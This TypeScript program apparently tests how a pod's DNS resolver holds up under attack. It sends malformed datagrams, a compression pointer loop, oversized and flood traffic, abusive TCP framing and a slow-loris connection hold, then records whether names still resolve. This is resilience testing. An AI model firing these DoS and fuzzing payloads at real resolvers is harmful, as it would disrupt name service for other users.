// Attacks on a pod's DNS, run as a program in it: `node names.ts NAME`. Prints one line of JSON: whether names were still
// found after each.
import dgram from 'node:dgram'
import dns from 'node:dns/promises'
import net from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

export interface NamesFinding {
  readonly found: readonly string[]
  readonly closed?: boolean
}

const [name = ''] = process.argv.slice(2)
const server = dns.getServers()[0]!.replace(/:53$/, '')
const query = Buffer.concat([
  Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
  ...name.split('.').map((label) => Buffer.concat([Buffer.of(label.length), Buffer.from(label)])),
  Buffer.from([0, 0, 1, 0, 1]),
])
const pointerLoop = Buffer.concat([query.subarray(0, 12), Buffer.from([0xc0, 0x0c, 0, 1, 0, 1])])
const manyQuestions = Buffer.concat([Buffer.from([0, 1, 1, 0, 0xff, 0xff, 0, 0, 0, 0, 0, 0]), query.subarray(12)])
const datagrams: Readonly<Record<string, readonly Buffer[]>> = {
  empty: [Buffer.alloc(0)],
  short: [Buffer.of(1), Buffer.from([0x12, 0x34, 1])],
  garbage: Array.from({ length: 200 }, (_, index) => Buffer.alloc(index * 7, (index * 37) & 0xff)),
  pointerLoop: [pointerLoop],
  manyQuestions: [manyQuestions],
  truncated: [query.subarray(0, -3)],
  response: [Buffer.concat([Buffer.from([0x12, 0x34, 0x81, 0x80]), query.subarray(4)])],
  large: [Buffer.concat([query, Buffer.alloc(8_000, 0x3f)])],
  flood: Array.from({ length: 3_000 }, () => query),
}

async function send(packets: readonly Buffer[]): Promise<void> {
  const socket = dgram.createSocket('udp4')
  await Promise.all(packets.map((packet) => new Promise((resolve) => socket.send(packet, 53, server, resolve))))
  await delay(30)
  socket.close()
}

async function stream(parts: readonly Buffer[], pauseMs: number, waitMs: number): Promise<boolean> {
  const socket = net.connect({ host: server, port: 53 })
  let closed = false
  socket.on('error', () => undefined)
  socket.on('close', () => {
    closed = true
  })
  socket.resume()
  for (const part of parts) {
    if (!socket.destroyed) socket.write(part)
    if (pauseMs > 0) await delay(pauseMs)
  }
  const end = Date.now() + waitMs
  while (!closed && Date.now() < end) await delay(20)
  socket.destroy()
  return closed
}

const find = (): Promise<readonly string[]> => dns.resolve4(name).catch((cause: Error) => [cause.message])
const framed = (bytes: Buffer): Buffer => Buffer.concat([Buffer.from([bytes.length >>> 8, bytes.length & 0xff]), bytes])
const streams: Readonly<Record<string, () => Promise<boolean>>> = {
  largestFrame: () => stream([framed(Buffer.alloc(65_535, 0x41))], 0, 1_000),
  emptyFrames: () => stream([Buffer.alloc(20_000)], 0, 1_000),
  manyQueries: () => stream([Buffer.concat(Array.from({ length: 5_000 }, () => framed(query)))], 0, 300),
  bytewise: () =>
    stream(
      [...Buffer.alloc(300, 0xff)].map((byte) => Buffer.of(byte)),
      1,
      200,
    ),
}

const findings: Record<string, NamesFinding> = {}
for (const [attack, packets] of Object.entries(datagrams)) {
  await send(packets)
  findings[attack] = { found: await find() }
}
for (const [attack, run] of Object.entries(streams)) {
  const closed = await run()
  findings[attack] = { closed, found: await find() }
}
// Many that say half of a length and wait, while somebody else asks.
const lazy = Array.from({ length: 300 }, () => net.connect({ host: server, port: 53 }).on('error', () => undefined))
for (const socket of lazy) socket.write(Buffer.of(0))
findings['slowLoris'] = { found: await find() }
for (const socket of lazy) socket.destroy()
process.stdout.write(`${JSON.stringify(findings)}\n`, () => process.exit(0))
